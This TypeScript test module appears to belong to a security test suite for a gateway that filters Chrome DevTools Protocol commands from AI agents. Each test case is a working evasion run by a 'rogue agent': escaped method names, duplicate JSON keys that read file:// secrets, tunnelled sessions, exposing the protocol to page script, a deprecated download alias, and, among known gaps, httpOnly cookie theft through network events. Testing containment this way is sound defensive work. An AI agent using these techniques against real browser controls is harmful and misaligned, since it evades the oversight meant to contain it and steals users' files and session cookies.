// CDP filter evasions: a rogue agent (holding the orchestrator's cdp:control token) writes
// raw frames, or opens channels that would carry commands around a method filter. Each one
// is an attack in its own right: it does real harm in the baseline, judged by the oracle.
//   escaped method   "Browser.\u0063lose" is Browser.close once Chromium decodes it
//   duplicate keys   Chromium refuses a duplicated top-level key itself ("CBOR: duplicate map
//                    key"), but inside params the last one wins: {"url":<site>,"url":"file://…"}
//   non-flat session Target.attachToTarget{flatten:false} + Target.sendMessageToTarget tunnels
//                    a command inside a string the filter never looks at
//   exposed protocol Target.exposeDevToolsProtocol hands page JavaScript a browser-level CDP
//                    channel (window.cdp) that never crosses the gateway
//   alias            Page.setDownloadBehavior (deprecated, still dispatched on a page session)
//                    does what Browser.setDownloadBehavior does
import { dirname, join } from 'node:path'
import { waitUntil } from '../../util/wait.ts'
import { assertLocal, closePage, evaluate, navigate, openPage, reason, type CdpConnection, type PageHandle } from '../cdp-client.ts'
import { asRogue, browserRestarted, downloadInto, nonce, plantCookie, plantSecretFile, titleSeen } from './cdp.ts'
import type { Attack } from '../types.ts'

/** Raw frames get ids far from the client's own counter. */
let rawId = 900_000
const nextRawId = (): number => ++rawId

/** One line for a raw reply: "error <message>" or "result". */
function replyNote (r: { error?: { message: string }, result?: unknown }): string {
  return r.error !== undefined ? (r.error.message.startsWith('hedge: ') ? reason(new Error(r.error.message)) : `error ${reason(new Error(r.error.message))}`) : 'result'
}

/** Poll the page's text until it contains `secret` (bounded); '' when it never did. */
async function pageTextWith (c: CdpConnection, sessionId: string, secret: string, ms: number): Promise<string> {
  let text = ''
  await waitUntil('the secret in the page', async () => {
    text = await evaluate<string>(c, sessionId, 'location.href + " " + (document.body ? document.body.innerText : "")', { timeoutMs: 5000 })
    return text.includes(secret)
  }, ms, 150).catch(() => {})
  return text.includes(secret) ? text : ''
}

export const CDP_EVASION_ATTACKS: Attack[] = [
  {
    id: 'cdp-evasion-escaped-method',
    category: 'cdp-evasion',
    description: 'A raw frame {"method":"Browser.\\u0063lose"}: a filter that matches the undecoded text lets it through; Chromium decodes it and closes the browser.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const before = await ctx.oracle.browserId()
      return await asRogue(ctx, async c => {
        const id = nextRawId()
        const r = await c.sendRaw(`{"id":${id},"method":"Browser.\\u0063lose"}`, id).catch((err: unknown) => ({ error: { message: reason(err) } }))
        const harm = await browserRestarted(ctx, before, r.error === undefined ? 15_000 : 3000)
        return { harm, evidence: `Browser.\\u0063lose → ${replyNote(r)}; oracle: browser ${harm ? 'closed and restarted' : 'still the same process'}` }
      })
    },
  },
  {
    id: 'cdp-evasion-duplicate-key',
    category: 'cdp-evasion',
    description: 'Duplicate keys: a duplicated top-level "method" (Chromium refuses it itself), ' +
      'then Page.navigate with {"url":<allowed site>,"url":"file:///secret"} — a filter reading the first url checks the site, ' +
      'Chromium takes the last and the page shows the file.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const path = join(ctx.d.internals.workspace.root, `${nonce('dup')}.txt`)
      const { secret, remove } = await plantSecretFile(path)
      try {
        return await asRogue(ctx, async c => {
          let page: PageHandle | undefined
          const notes: string[] = []
          let text = ''
          try {
            page = await openPage(c)
            const sid = page.sessionId
            // 1. top-level duplicate: what a first-wins filter would approve is Runtime.evaluate
            const id1 = nextRawId()
            const r1 = await c.sendRaw(`{"id":${id1},"sessionId":${JSON.stringify(sid)},"method":"Runtime.evaluate","params":{"expression":"1"},"method":"Page.navigate"}`, id1)
            notes.push(`top-level duplicate method → ${replyNote(r1)}`)
            // 2. duplicate inside params: last wins in Chromium
            const id2 = nextRawId()
            assertLocal(ctx.fixtures.site)
            const r2 = await c.sendRaw(
              `{"id":${id2},"sessionId":${JSON.stringify(sid)},"method":"Page.navigate",` +
              `"params":{"url":${JSON.stringify(ctx.fixtures.site + '/')},"url":${JSON.stringify(`file://${path}`)}}}`,
              id2,
            )
            notes.push(`params duplicate url → ${replyNote(r2)}`)
            if (r2.error === undefined) text = await pageTextWith(c, sid, secret, 10_000)
          } catch (err) { notes.push(reason(err)) } finally { await closePage(c, page) }
          const harm = text.includes(secret)
          return { harm, evidence: `${notes.join('; ')}; oracle: secret ${harm ? 'read from the file: page' : 'not read'}` }
        })
      } finally { await remove() }
    },
  },
  {
    id: 'cdp-evasion-non-flat-session',
    category: 'cdp-evasion',
    description: 'Target.attachToTarget{flatten:false} + Target.sendMessageToTarget carrying Runtime.evaluate as a string: the command inside never meets a method filter.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const title = nonce('nonflat')
      return await asRogue(ctx, async c => {
        const notes: string[] = []
        let targetId: string | undefined
        try {
          targetId = (await c.send<{ targetId: string }>('Target.createTarget', { url: 'about:blank' })).targetId
          const { sessionId } = await c.send<{ sessionId: string }>('Target.attachToTarget', { targetId, flatten: false })
          notes.push('attachToTarget{flatten:false}: ok')
          const inner = JSON.stringify({ id: 1, method: 'Runtime.evaluate', params: { expression: `document.title = ${JSON.stringify(title)}` } })
          const answered = c.event<{ message: string }>('Target.receivedMessageFromTarget', p => p.message.includes('"id":1'), 10_000).catch(() => undefined)
          await c.send('Target.sendMessageToTarget', { sessionId, message: inner })
          notes.push(`sendMessageToTarget: ok${await answered !== undefined ? ', answered' : ''}`)
        } catch (err) { notes.push(reason(err)) }
        const harm = await titleSeen(ctx, title)
        if (targetId !== undefined) await closePage(c, { targetId, sessionId: '' })
        return { harm, evidence: `${notes.join('; ')}; oracle: nonce title ${harm ? 'set through the tunnel' : 'not seen'}` }
      })
    },
  },
  {
    id: 'cdp-evasion-expose-protocol',
    category: 'cdp-evasion',
    description: 'Target.exposeDevToolsProtocol gives page JavaScript a browser-level CDP channel (window.cdp): the page itself opens file:///secret in a new target and reads it, past the gateway.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const path = join(ctx.d.internals.workspace.root, `${nonce('expose')}.txt`)
      const { secret, remove } = await plantSecretFile(path)
      try {
        return await asRogue(ctx, async c => {
          let page: PageHandle | undefined
          const notes: string[] = []
          let got = ''
          try {
            page = await openPage(c)
            const sid = page.sessionId
            await navigate(c, sid, ctx.fixtures.sitePage('<!doctype html><title>exposed</title><p>hi</p>'))
            const r = await c.send('Target.exposeDevToolsProtocol', { targetId: page.targetId, bindingName: 'cdp' }).then(() => 'ok', (err: unknown) => reason(err))
            notes.push(`exposeDevToolsProtocol: ${r}`)
            // Everything below runs in the page, on window.cdp: no command of it crosses the gateway.
            got = await evaluate<string>(c, sid, `(async () => {
              if (typeof window.cdp !== 'object' || window.cdp === null) return 'no window.cdp'
              let id = 0; const waiting = new Map()
              window.cdp.onmessage = m => { const msg = JSON.parse(m); const w = waiting.get(msg.id); if (w) { waiting.delete(msg.id); w(msg) } }
              const call = (method, params, sessionId) => new Promise(resolve => { id++; waiting.set(id, resolve); ` +
              `window.cdp.send(JSON.stringify({ id, method, params, ...(sessionId ? { sessionId } : {}) })) })
              const made = await call('Target.createTarget', { url: ${JSON.stringify(`file://${path}`)} })
              if (!made.result) return 'createTarget: ' + JSON.stringify(made.error)
              const att = await call('Target.attachToTarget', { targetId: made.result.targetId, flatten: true })
              let text = ''
              for (let i = 0; i < 50 && !text.includes(${JSON.stringify(secret)}); i++) {
                const ev = await call('Runtime.evaluate', { expression: 'document.body ? document.body.innerText : ""', returnByValue: true }, att.result.sessionId)
                text = String(ev.result?.result?.value ?? '')
                if (!text) await new Promise(r => setTimeout(r, 100))
              }
              await call('Target.closeTarget', { targetId: made.result.targetId })
              return text
            })()`, { awaitPromise: true, timeoutMs: 20_000 })
            notes.push(`page script: ${got.includes(secret) ? 'read the file' : got.slice(0, 80)}`)
          } catch (err) { notes.push(reason(err)) } finally { await closePage(c, page) }
          const harm = got.includes(secret)
          return { harm, evidence: `${notes.join('; ')}; oracle: secret ${harm ? 'read by page JavaScript through window.cdp' : 'not read'}` }
        })
      } finally { await remove() }
    },
  },
  {
    id: 'cdp-evasion-alias',
    category: 'cdp-evasion',
    description: 'The deprecated Page.setDownloadBehavior (still dispatched on a page session in Chromium 156) does what ' +
      'Browser.setDownloadBehavior does: a filter that only checks the Browser name lets a download escape the workspace.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const dir = dirname(ctx.oracle.canary('outside'))
      return await asRogue(ctx, async c => {
        let page: PageHandle | undefined
        try {
          page = await openPage(c)
          const sid = page.sessionId
          const note = await c.send('Page.setDownloadBehavior', { behavior: 'allow', downloadPath: dir }, sid).then(
            () => 'Page.setDownloadBehavior: ok',
            (err: unknown) => `Page.setDownloadBehavior: ${reason(err)}`,
          )
          return await downloadInto(ctx, c, dir, note, page)
        } catch (err) {
          return { harm: false, evidence: `${reason(err)}; oracle: nothing written outside the workspace` }
        } finally { await closePage(c, page) }
      })
    },
  },
]

/**
 * Known gaps: real harm in the baseline that `hedged` (as of this writing) does NOT stop.
 * Kept out of CDP_EVASION_ATTACKS so the hardened invariant holds; wire them in once the
 * gateway closes them (see each description for what it would take).
 */
export const CDP_GAP_ATTACKS: Attack[] = [
  {
    id: 'cdp-cookie-theft-network-events',
    category: 'cdp-evasion',
    description: 'Cookie theft without any cookie method: Network.enable, navigate to the site, ' +
      'and read the httpOnly session cookie from the Cookie header of Network.requestWillBeSentExtraInfo (headers, associatedCookies). ' +
      'Closing it needs the relay to redact cookies in browser→client events (and Fetch.requestPaused headers).',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const secret = nonce('cookie')
      await plantCookie(ctx, secret)
      try {
        return await asRogue(ctx, async c => {
          let page: PageHandle | undefined
          let note = ''
          let stolen = false
          try {
            page = await openPage(c)
            const sid = page.sessionId
            await c.send('Network.enable', {}, sid)
            const url = `${ctx.fixtures.site}/`
            const extra = c.event<{ headers?: Record<string, string>, associatedCookies?: unknown[] }>('Network.requestWillBeSentExtraInfo', (_p, s) => s === sid, 15_000)
            extra.catch(() => {})
            await navigate(c, sid, url)
            const ev = await extra
            stolen = JSON.stringify(ev).includes(secret)
            note = `requestWillBeSentExtraInfo: ${stolen ? 'Cookie header carries the secret' : 'no cookie seen'}`
          } catch (err) { note = reason(err) } finally { await closePage(c, page) }
          return { harm: stolen, evidence: `${note}; oracle: secret cookie ${stolen ? 'obtained' : 'not obtained'}` }
        })
      } finally { await plantCookie(ctx, null).catch(() => {}) }
    },
  },
  {
    id: 'cdp-evasion-isolated-init-script',
    category: 'cdp-evasion',
    description: 'initScripts isolated-only sidestepped: an init script in an isolated world (worldName set) appends a <script> element, ' +
      'which runs in the main world of every new document before the site\'s own scripts. ' +
      'The gateway cannot tell this from automation\'s utility worlds by looking at the source.',
    stoppedBy: ['cdp-filter'],
    attacker: 'rogue-agent',
    async run (ctx) {
      const mark = nonce('isoinit')
      const url = ctx.fixtures.sitePage('<!doctype html><title>plain</title><script>document.title = String(window.__hedgeInit || "plain")</script>')
      const inner = `window.__hedgeInit = ${JSON.stringify(mark)}`
      const source = `(() => { const s = document.createElement('script'); s.textContent = ${JSON.stringify(inner)}; (document.documentElement || document).appendChild(s); s.remove() })()`
      return await asRogue(ctx, async c => {
        let page: PageHandle | undefined
        const notes: string[] = []
        try {
          page = await openPage(c)
          const sid = page.sessionId
          await c.send('Page.enable', {}, sid)
          notes.push(await c.send('Page.addScriptToEvaluateOnNewDocument', { source, worldName: 'hedge-utility' }, sid).then(
            () => 'addScriptToEvaluateOnNewDocument{worldName}: ok',
            (err: unknown) => reason(err),
          ))
          await navigate(c, sid, url)
        } catch (err) { notes.push(reason(err)) }
        const harm = await titleSeen(ctx, mark)
        await closePage(c, page)
        return { harm, evidence: `${notes.join('; ')}; oracle: ${harm ? 'the site\'s own script saw the global set from the isolated world' : 'page title untouched'}` }
      })
    },
  },
]
